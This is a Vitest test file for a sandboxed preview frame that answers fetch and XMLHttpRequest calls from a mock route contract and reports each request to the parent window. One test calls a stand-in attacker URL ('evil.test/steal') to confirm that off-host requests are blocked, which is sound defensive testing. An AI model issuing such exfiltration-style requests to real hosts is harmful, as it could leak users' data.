/**
 * What runs in the frame, run here: requests are answered from examples, and told.
 *
 * @vitest-environment happy-dom
 */

import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import { answerRequests } from "./answer";
import { bootstrapOf } from "./bootstrap";
import { replaceRequests } from "./requests";

const SETTINGS = {
  page: "index.html",
  files: { "data.json": { type: "application/json", text: "[1]" } },
  routes: [
    { method: "GET", path: "/api/items/{id}", status: 200, body: '{"id":7}' },
    { method: "GET", path: "/api/items/mine", status: 200, body: '{"mine":true}' },
    { method: "POST", path: "/api/items", status: 201, body: '{"id":8}' },
    { method: "DELETE", path: "/api/items/{id}", status: 204, body: null },
  ],
};

describe("requests in the frame", () => {
  const told: unknown[] = [];
  const kept = { fetch: window.fetch, XMLHttpRequest: window.XMLHttpRequest };

  beforeEach(() => {
    told.length = 0;
    vi.spyOn(window.parent, "postMessage").mockImplementation((message: unknown) => void told.push(message));
    answerRequests(SETTINGS);
    replaceRequests();
  });
  afterEach(() => {
    Object.assign(window, kept);
    vi.restoreAllMocks();
  });

  test.each([
    ["GET", "/api/items/3", 200, { id: 7 }],
    ["GET", "api/items/mine", 200, { mine: true }],
    ["POST", "http://localhost:8000/api/items?x=1", 201, { id: 8 }],
    ["GET", "data.json", 200, [1]],
    ["GET", "/api/other", 404, { detail: "GET /api/other: not in the contract" }],
  ])("%s %s is answered", async (method, address, status, body) => {
    const response = await window.fetch(address, { method });
    expect(response.status).toBe(status);
    expect(await response.json()).toEqual(body);
  });

  test("of another host fail as without a network, and are told", async () => {
    await expect(window.fetch("https://evil.test/steal?x=1")).rejects.toThrow("Failed to fetch");
    expect(told).toEqual([{ preview: "blocked", what: "https://evil.test/steal?x=1" }]);
  });

  test("are told with how they were answered", async () => {
    expect((await window.fetch("/api/items/3", { method: "DELETE" })).status).toBe(204);
    await window.fetch("/nothing");
    expect(told).toEqual([
      { preview: "request", method: "DELETE", path: "/api/items/3", status: 204 },
      { preview: "request", method: "GET", path: "/nothing", status: null },
    ]);
  });

  test("of the older kind are answered alike", async () => {
    const request = new window.XMLHttpRequest();
    const body = await new Promise((resolve) => {
      request.onload = () => resolve(JSON.parse(request.responseText));
      request.open("GET", "/api/items/3");
      request.send();
    });
    expect([request.status, body]).toEqual([200, { id: 7 }]);
  });
});

test("what is sent to the frame is whole: a script that uses nothing of this page", () => {
  const script = bootstrapOf(SETTINGS);
  expect(() => new Function(script)).not.toThrow();
  expect(script).not.toMatch(/__vite|import\(|<\/script/);
});
